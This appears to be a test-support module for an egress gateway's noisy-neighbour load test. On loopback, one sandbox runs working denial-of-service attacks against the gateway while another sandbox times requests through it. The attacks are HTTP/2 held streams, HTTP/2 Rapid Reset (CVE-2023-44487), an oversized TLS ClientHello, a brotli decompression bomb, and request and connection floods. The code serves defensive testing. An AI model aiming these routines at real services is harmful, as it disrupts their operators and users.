@@ -1,0 +1,628 @@
+"""Sandbox A attacks, sandbox B times a simple HTTPS request, both through one gateway (issue 15).
+
+The world of the noisy-neighbour benchmark (bench/noisy.py: B's latency and the gateway's RSS
+during each attack) and test (tests/load/test_noisy_neighbour.py: each attack ends in its documented
+refusal while B keeps being served). Everything is on loopback: the gateway listens on 127.0.0.1,
+the origin on `<block>.<origin octet>:443`, and the two sandboxes are two source addresses the
+clients bind to, each its own entry of the policy's `sandboxes`:
+
+- `attacker` (sandbox A) may use `open` (origin.noisy, GET and POST) and `bound` (bound.noisy, a
+  rule that injects the platform's key, so its responses are decoded and redacted);
+- `victim` (sandbox B) may use `open`.
+
+Each attack is a function of the world that runs until the gateway refuses it (or the attacker's
+own bound is reached) and says what the attacker saw. None of them sleeps to synchronise: they read
+until the gateway answers, resets or closes.
+"""
+
+from __future__ import annotations
+
+import os
+import select
+import socket
+import ssl
+import statistics
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from tests.support.gateway import GatewayProcess
+from tests.support.pki import TestPKI
+
+ORIGIN_NAME = "origin.noisy"
+BOUND_NAME = "bound.noisy"
+SECRET_ENV = "EGRESS_NOISY_KEY"
+SECRET_VALUE = "sk-noisy-Platform7Key6Yy5"
+TIMEOUT = 30.0
+
+_BOMB: dict[int, bytes] = {}
+
+
+def brotli_bomb(size: int) -> bytes:
+    """Brotli of `size` zero bytes, made once in 1 MiB steps (the zeros are never held whole)."""
+    if size not in _BOMB:
+        import brotli
+
+        compressor, zeros, out = brotli.Compressor(quality=5), bytes(1 << 20), []
+        for _ in range(size >> 20):
+            out.append(compressor.process(zeros))
+        out.append(compressor.finish())
+        _BOMB[size] = b"".join(out)
+    return _BOMB[size]
+
+
+class Origin:
+    """Keep-alive TLS HTTP/1.1 origin for both names: `/ok` is 200 `ok`; `/bomb` is a brotli bomb of
+    `bomb_size` bytes with its (small) Content-Length; anything else is 200 `ok` after reading the
+    body. Counts requests by path."""
+
+    def __init__(self, address: str, cert: Path, key: Path, bomb_size: int):
+        self.requests: dict[str, int] = {}
+        self._lock = threading.Lock()
+        self._bomb = brotli_bomb(bomb_size)
+        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        self._tls.load_cert_chain(str(cert), str(key))
+        self._tls.set_alpn_protocols(["http/1.1"])
+        self._sock = socket.socket()
+        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self._sock.bind((address, 443))
+        self._sock.listen(512)
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def count(self, path: str) -> int:
+        with self._lock:
+            return self.requests.get(path, 0)
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                raw, _ = self._sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._handle, args=(raw,), daemon=True).start()
+
+    def _handle(self, raw: socket.socket) -> None:
+        try:
+            raw.settimeout(TIMEOUT)
+            conn = self._tls.wrap_socket(raw, server_side=True)
+            buf = b""
+            while True:
+                while b"\r\n\r\n" not in buf:
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        return
+                    buf += chunk
+                head, buf = buf.split(b"\r\n\r\n", 1)
+                lines = head.split(b"\r\n")
+                path = lines[0].split(b" ")[1].split(b"?")[0].decode("ascii", "replace")
+                length = 0
+                for line in lines[1:]:
+                    name, _, value = line.partition(b":")
+                    if name.strip().lower() == b"content-length":
+                        length = int(value)
+                while len(buf) < length:
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        return
+                    buf += chunk
+                buf = buf[length:]
+                with self._lock:
+                    self.requests[path] = self.requests.get(path, 0) + 1
+                if path == "/bomb":
+                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: br\r\n"
+                                 b"Content-Length: %d\r\n\r\n" % len(self._bomb) + self._bomb)
+                else:
+                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+        except (OSError, ssl.SSLError, ValueError, IndexError):
+            pass
+        finally:
+            raw.close()
+
+    def stop(self) -> None:
+        try:
+            self._sock.shutdown(socket.SHUT_RDWR)  # wakes the thread blocked in accept(): the port is free at once
+        except OSError:
+            pass
+        self._sock.close()
+
+
+@dataclass
+class World:
+    gateway: GatewayProcess
+    origin: Origin
+    attacker: str  # sandbox A's source address
+    victim: str  # sandbox B's source address
+
+    def stop(self) -> None:
+        self.gateway.stop()
+        self.origin.stop()
+
+    def rss_kib(self) -> int:
+        return _status_kib(self.gateway.process.pid, "VmRSS")
+
+    def audit_lines(self, source: str) -> list[dict]:
+        return [e for e in self.gateway.audit() if str(e.get("client", "")).startswith(source + ":")]
+
+
+def policy_text(origin_address: str, attacker: str, victim: str) -> str:
+    return f"""version: 1
+network:
+  allow_ip_ranges: [127.0.0.0/8]
+resolver:
+  static_hosts:
+    {ORIGIN_NAME}: [{origin_address}]
+    {BOUND_NAME}: [{origin_address}]
+secrets:
+  noisy_key: {{env: {SECRET_ENV}}}
+sandboxes:
+  - id: attacker
+    source_ips: [{attacker}/32]
+    rules: [open, bound]
+  - id: victim
+    source_ips: [{victim}/32]
+    rules: [open]
+rules:
+  - id: open
+    hosts: [{ORIGIN_NAME}]
+    methods: [GET, POST]
+  - id: bound
+    hosts: [{BOUND_NAME}]
+    inject:
+      - header: X-Api-Key
+        value: "${{secrets.noisy_key}}"
+"""
+
+
+def make_world(workdir: Path, block: str, args: list[str] = (), bomb_size: int = 300 << 20,
+               octets: tuple[int, int, int] = (250, 251, 252)) -> World:
+    """Origin at <block>.<octets[0]>, attacker at .<octets[1]>, victim at .<octets[2]>."""
+    origin_address, attacker, victim = (f"{block}.{o}" for o in octets)
+    pki = TestPKI(workdir / "pki")
+    cert, key = pki.issue([ORIGIN_NAME, BOUND_NAME], [origin_address], stem="noisy-origin")
+    origin = Origin(origin_address, cert, key, bomb_size)
+    policy = workdir / "noisy.yaml"
+    policy.write_text(policy_text(origin_address, attacker, victim))
+    os.environ[SECRET_ENV] = SECRET_VALUE  # the gateway's environment (GatewayProcess copies os.environ)
+    gateway = GatewayProcess(policy, workdir / "gateway", upstream_ca=pki.ca_cert, extra_args=list(args))
+    try:
+        gateway.start()
+    except Exception:
+        origin.stop()
+        raise
+    return World(gateway, origin, attacker, victim)
+
+
+# --- clients --------------------------------------------------------------------------------------
+
+
+def _status_kib(pid: int, key: str) -> int:
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith(key + ":"):
+                return int(line.split()[1])
+    return 0
+
+
+def connect(world: World, source: str, authority: str, timeout: float = TIMEOUT) -> socket.socket:
+    """A CONNECT tunnel from `source`; raises unless the gateway answers 200."""
+    sock = socket.socket()
+    sock.settimeout(timeout)
+    sock.bind((source, 0))
+    sock.connect((world.gateway.host, world.gateway.port))
+    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
+    answer = b""
+    while b"\r\n\r\n" not in answer:
+        piece = sock.recv(4096)
+        if not piece:
+            raise ConnectionError(f"CONNECT {authority}: closed after {answer!r}")
+        answer += piece
+    if not answer.startswith(b"HTTP/1.1 200"):
+        sock.close()
+        raise ConnectionError(f"CONNECT {authority}: {answer[:200]!r}")
+    return sock
+
+
+def tls_tunnel(world: World, source: str, name: str, alpn: str = "http/1.1", timeout: float = TIMEOUT) -> ssl.SSLSocket:
+    sock = connect(world, source, f"{name}:443", timeout)
+    context = ssl.create_default_context(cafile=str(world.gateway.ca_cert))
+    context.set_alpn_protocols([alpn])
+    return context.wrap_socket(sock, server_hostname=name)
+
+
+def read_response(tls: ssl.SSLSocket, limit: int = 1 << 20) -> tuple[int, dict[str, str], int]:
+    """(status, headers, body bytes read) of one HTTP/1.1 response; reads a Content-Length body
+    (at most `limit` bytes kept) or, without one, until close."""
+    buf = b""
+    while b"\r\n\r\n" not in buf:
+        piece = tls.recv(65536)
+        if not piece:
+            raise ConnectionError(f"closed before a response head: {buf[:200]!r}")
+        buf += piece
+    head, body = buf.split(b"\r\n\r\n", 1)
+    lines = head.decode("latin-1").split("\r\n")
+    status = int(lines[0].split(" ")[1])
+    headers = {}
+    for line in lines[1:]:
+        name, _, value = line.partition(":")
+        headers[name.strip().lower()] = value.strip()
+    if "content-length" in headers:
+        length = int(headers["content-length"])
+        got = len(body)
+        while got < length:
+            piece = tls.recv(min(65536, length - got))
+            if not piece:
+                break
+            got += len(piece)
+        return status, headers, got
+    got = len(body)
+    while True:
+        try:
+            piece = tls.recv(1 << 20)
+        except (OSError, ssl.SSLError):
+            break
+        if not piece:
+            break
+        got += len(piece)
+    return status, headers, got
+
+
+def victim_request(world: World) -> tuple[float, int]:
+    """Sandbox B's simple request, the way an agent's curl makes it: a fresh CONNECT tunnel, TLS,
+    one GET, close. Returns (seconds, status)."""
+    started = time.perf_counter()
+    with tls_tunnel(world, world.victim, ORIGIN_NAME) as tls:
+        tls.sendall(f"GET /ok HTTP/1.1\r\nHost: {ORIGIN_NAME}\r\nConnection: close\r\n\r\n".encode())
+        status, _, _ = read_response(tls)
+    return time.perf_counter() - started, status
+
+
+class Victim(threading.Thread):
+    """Sandbox B, timing its simple request over and over until `stop()`."""
+
+    def __init__(self, world: World):
+        super().__init__(daemon=True)
+        self.world = world
+        self.samples: list[tuple[float, int]] = []
+        self.errors: list[str] = []
+        self._halt = threading.Event()
+        self.first = threading.Event()  # set once a request completed (B is running)
+
+    def run(self) -> None:
+        while not self._halt.is_set():
+            try:
+                self.samples.append(victim_request(self.world))
+                self.first.set()
+            except (OSError, ssl.SSLError, ValueError) as exc:
+                self.errors.append(f"{type(exc).__name__}: {exc}"[:300])
+
+    def stop(self) -> "Victim":
+        self._halt.set()
+        self.join(TIMEOUT * 2)
+        return self
+
+
+class RssSampler(threading.Thread):
+    """The gateway's peak RSS while an attack runs (sampled every 10 ms: a peak between two samples
+    is missed, so VmHWM, the kernel's own high-water mark, is read too for a run that starts fresh)."""
+
+    def __init__(self, world: World):
+        super().__init__(daemon=True)
+        self.world = world
+        self.peak = world.rss_kib()
+        self._halt = threading.Event()
+
+    def run(self) -> None:
+        while not self._halt.wait(0.01):
+            try:
+                self.peak = max(self.peak, self.world.rss_kib())
+            except (OSError, ValueError):
+                return
+
+    def stop(self) -> int:
+        self._halt.set()
+        self.join(5)
+        return self.peak
+
+
+def percentile(values: list[float], q: float) -> float:
+    if not values:
+        return float("nan")
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, max(0, round(q * (len(ordered) - 1))))]
+
+
+def summary(samples: list[tuple[float, int]]) -> dict:
+    times = [s for s, _ in samples]
+    return {"requests": len(samples), "ok": sum(1 for _, status in samples if status == 200),
+            "p50_ms": percentile(times, 0.5) * 1000, "p99_ms": percentile(times, 0.99) * 1000,
+            "mean_ms": (statistics.fmean(times) * 1000) if times else float("nan")}
+
+
+# --- attacks --------------------------------------------------------------------------------------
+
+
+@dataclass
+class Outcome:
+    """What the attacker saw."""
+
+    attack: str
+    statuses: dict[int, int] = field(default_factory=dict)  # HTTP status -> count
+    resets: int = 0  # h2 streams the gateway reset
+    goaway: int | None = None  # the GOAWAY error code, if one came
+    closed: bool = False  # the gateway closed the attacker's connection
+    sent: int = 0  # bytes or streams the attacker got out
+    notes: list[str] = field(default_factory=list)
+
+    def count(self, status: int) -> None:
+        self.statuses[status] = self.statuses.get(status, 0) + 1
+
+
+def _h2_connection():
+    import h2.config
+    import h2.connection
+
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    conn.initiate_connection()
+    return conn
+
+
+def _h2_pump(tls: ssl.SSLSocket, conn, outcome: Outcome, wanted, wait: float = 0.05) -> bool:
+    """Read what the gateway sent (waiting up to `wait` for it) and feed it to `conn`; False once the
+    connection is over. Sends block (the socket's own timeout): a gateway that stops reading is
+    what some attacks measure, not a failure."""
+    import h2.events
+
+    if not tls.pending() and not select.select([tls], [], [], wait)[0]:
+        return True
+    try:
+        data = tls.recv(65536)
+    except (OSError, ssl.SSLError):
+        outcome.closed = True
+        return False
+    if not data:
+        outcome.closed = True
+        return False
+    try:
+        events = conn.receive_data(data)
+    except Exception as exc:  # a protocol error on the gateway's side of the conversation
+        outcome.notes.append(f"h2: {type(exc).__name__}")
+        outcome.closed = True
+        return False
+    for event in events:
+        if isinstance(event, h2.events.ResponseReceived):
+            outcome.count(int(dict(event.headers)[":status"]))
+        elif isinstance(event, h2.events.StreamReset):
+            outcome.resets += 1
+        elif isinstance(event, h2.events.ConnectionTerminated):
+            outcome.goaway = int(event.error_code)
+        elif isinstance(event, h2.events.DataReceived):
+            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+        if wanted is not None:
+            wanted(event)
+    try:
+        tls.sendall(conn.data_to_send())
+    except (OSError, ssl.SSLError):
+        outcome.closed = True
+        return False
+    return outcome.goaway is None
+
+
+def h2_held_streams(world: World, streams: int = 100, per_stream: int = 900_000, hold: threading.Event | None = None,
+                    seconds: float = 20.0) -> Outcome:
+    """One HTTP/2 connection opens `streams` POSTs that each declare a body of a little over
+    `per_stream` bytes (under stream_large_bodies: the gateway buffers them), sends `per_stream`
+    bytes of DATA on each as flow control allows, and never ends any of them. Runs until every stream
+    is answered, reset or fully sent, or for `seconds`; then holds the connection open until `hold`
+    is set (if given)."""
+    outcome = Outcome("h2_held_streams")
+    tls = tls_tunnel(world, world.attacker, ORIGIN_NAME, alpn="h2")
+    conn = _h2_connection()
+    tls.sendall(conn.data_to_send())
+    left: dict[int, int] = {}
+    done: set[int] = set()
+
+    def wanted(event) -> None:
+        import h2.events
+
+        if isinstance(event, (h2.events.ResponseReceived, h2.events.StreamReset)):
+            done.add(event.stream_id)
+
+    try:
+        for _ in range(streams):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, [(":method", "POST"), (":scheme", "https"), (":authority", ORIGIN_NAME),
+                                    (":path", "/upload"), ("content-length", str(per_stream + 1))])
+            left[sid] = per_stream
+        tls.sendall(conn.data_to_send())
+        deadline = time.monotonic() + seconds
+        chunk = bytes(16384)
+        while time.monotonic() < deadline:
+            progressed = False
+            for sid, remaining in list(left.items()):
+                if sid in done or remaining <= 0:
+                    continue
+                try:
+                    window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size, remaining)
+                except Exception:  # the stream is closed
+                    done.add(sid)
+                    continue
+                if window > 0:
+                    conn.send_data(sid, chunk[:window])
+                    left[sid] = remaining - window
+                    outcome.sent += window
+                    progressed = True
+            data = conn.data_to_send()
+            if data:
+                try:
+                    tls.sendall(data)
+                except (OSError, ssl.SSLError):
+                    outcome.closed = True
+                    break
+            if not _h2_pump(tls, conn, outcome, wanted):
+                break
+            if all(sid in done or left[sid] <= 0 for sid in left) and not progressed:
+                break
+        if hold is not None and not outcome.closed:
+            while not hold.is_set() and _h2_pump(tls, conn, outcome, wanted):
+                pass
+    finally:
+        tls.close()
+    return outcome
+
+
+def h2_rapid_reset(world: World, streams: int = 6000, seconds: float = 20.0) -> Outcome:
+    """CVE-2023-44487: one HTTP/2 connection sends HEADERS (a complete GET) then RST_STREAM(CANCEL)
+    for `streams` streams as fast as it can, reading whatever comes back, until the gateway sends
+    GOAWAY or closes, or every stream is out; then reads until the gateway has answered or `seconds`."""
+    import h2.errors
+
+    outcome = Outcome("h2_rapid_reset")
+    tls = tls_tunnel(world, world.attacker, ORIGIN_NAME, alpn="h2")
+    conn = _h2_connection()
+    tls.sendall(conn.data_to_send())
+    deadline = time.monotonic() + seconds
+    headers = [(":method", "GET"), (":scheme", "https"), (":authority", ORIGIN_NAME), (":path", "/ok")]
+    try:
+        while outcome.sent < streams and time.monotonic() < deadline:
+            for _ in range(min(100, streams - outcome.sent)):
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, headers, end_stream=True)
+                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
+                outcome.sent += 1
+            try:
+                tls.sendall(conn.data_to_send())
+            except (OSError, ssl.SSLError):
+                outcome.closed = True
+                break
+            if not _h2_pump(tls, conn, outcome, None, wait=0):
+                break
+        while not outcome.closed and outcome.goaway is None and time.monotonic() < deadline:
+            if not _h2_pump(tls, conn, outcome, None, wait=0.2):
+                break
+    finally:
+        tls.close()
+    return outcome
+
+
+def huge_client_hello(world: World, size: int = 8 << 20, seconds: float = 20.0) -> Outcome:
+    """In an allowed CONNECT tunnel, a TLS ClientHello declaring `size` bytes, sent as 16 KiB
+    records as fast as the gateway reads them, never finished. Runs until the gateway closes the
+    tunnel or `size` bytes are out."""
+    outcome = Outcome("huge_client_hello")
+    sock = connect(world, world.attacker, f"{ORIGIN_NAME}:443")
+    record = 16384
+    body = b"\x01" + size.to_bytes(3, "big") + b"\x03\x03" + bytes(32)
+    first = body + bytes(record - len(body))
+    deadline = time.monotonic() + seconds
+    try:
+        sock.settimeout(seconds)
+        sock.sendall(b"\x16\x03\x01" + record.to_bytes(2, "big") + first)
+        outcome.sent = len(first)
+        filler = b"\x16\x03\x01" + record.to_bytes(2, "big") + bytes(record)
+        while outcome.sent < size and time.monotonic() < deadline:
+            sock.sendall(filler)
+            outcome.sent += record
+    except (OSError, ssl.SSLError):
+        outcome.closed = True
+    if not outcome.closed:
+        sock.settimeout(max(0.1, deadline - time.monotonic()))
+        try:
+            sock.recv(4096)  # an alert, or the close itself
+            outcome.closed = True
+        except (TimeoutError, socket.timeout):
+            outcome.notes.append("the gateway kept the tunnel open")
+        except OSError:
+            outcome.closed = True
+    sock.close()
+    return outcome
+
+
+def decompression_bomb(world: World, times: int = 3) -> Outcome:
+    """GET /bomb on the bound rule `times` times, one after the other, each on a fresh tunnel: a few
+    hundred bytes of brotli that decode to the world's bomb size."""
+    outcome = Outcome("decompression_bomb")
+    for _ in range(times):
+        try:
+            with tls_tunnel(world, world.attacker, BOUND_NAME) as tls:
+                tls.sendall(f"GET /bomb HTTP/1.1\r\nHost: {BOUND_NAME}\r\nConnection: close\r\n\r\n".encode())
+                status, headers, got = read_response(tls)
+                outcome.count(status)
+                outcome.sent += got
+                if headers.get("x-egress-reason"):
+                    outcome.notes.append(headers["x-egress-reason"])
+        except (OSError, ssl.SSLError, ValueError) as exc:
+            outcome.closed = True
+            outcome.notes.append(f"{type(exc).__name__}")
+    return outcome
+
+
+def request_flood(world: World, connections: int = 8, requests: int = 4000, seconds: float = 20.0) -> Outcome:
+    """`connections` kept-alive tunnels send pipelined GETs (allowed ones) as fast as the gateway
+    answers, `requests` in all, and count the answers by status."""
+    outcome = Outcome("request_flood")
+    lock = threading.Lock()
+    per = requests // connections
+    deadline = time.monotonic() + seconds
+
+    def one() -> None:
+        try:
+            with tls_tunnel(world, world.attacker, ORIGIN_NAME) as tls:
+                request = f"GET /ok HTTP/1.1\r\nHost: {ORIGIN_NAME}\r\n\r\n".encode()
+                for start in range(0, per, 20):
+                    batch = min(20, per - start)
+                    tls.sendall(request * batch)
+                    for _ in range(batch):
+                        status, headers, _ = read_response(tls)
+                        with lock:
+                            outcome.count(status)
+                            outcome.sent += 1
+                        if headers.get("connection", "").lower() == "close":
+                            return
+                    if time.monotonic() > deadline:
+                        return
+        except (OSError, ssl.SSLError, ValueError, ConnectionError):
+            with lock:
+                outcome.closed = True
+
+    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(seconds + TIMEOUT)
+    return outcome
+
+
+def connection_flood(world: World, count: int = 2000, seconds: float = 20.0) -> Outcome:
+    """New connections as fast as the kernel accepts them, each a CONNECT that is then dropped;
+    counts the ones the gateway closed without answering."""
+    outcome = Outcome("connection_flood")
+    deadline = time.monotonic() + seconds
+    while outcome.sent < count and time.monotonic() < deadline:
+        sock = socket.socket()
+        sock.settimeout(TIMEOUT)
+        try:
+            sock.bind((world.attacker, 0))
+            sock.connect((world.gateway.host, world.gateway.port))
+            sock.sendall(f"CONNECT {ORIGIN_NAME}:443 HTTP/1.1\r\nHost: {ORIGIN_NAME}:443\r\n\r\n".encode())
+            answer = sock.recv(64)
+            if answer.startswith(b"HTTP/1.1 "):
+                outcome.count(int(answer[9:12]))
+            else:
+                outcome.count(0)  # closed at accept
+        except OSError:
+            outcome.count(0)
+        finally:
+            sock.close()
+        outcome.sent += 1
+    return outcome
+
+
+ATTACKS = {
+    "h2_held_streams": h2_held_streams,
+    "decompression_bomb": decompression_bomb,
+    "huge_client_hello": huge_client_hello,
+    "h2_rapid_reset": h2_rapid_reset,
+    "request_flood": request_flood,
+    "connection_flood": connection_flood,
+}
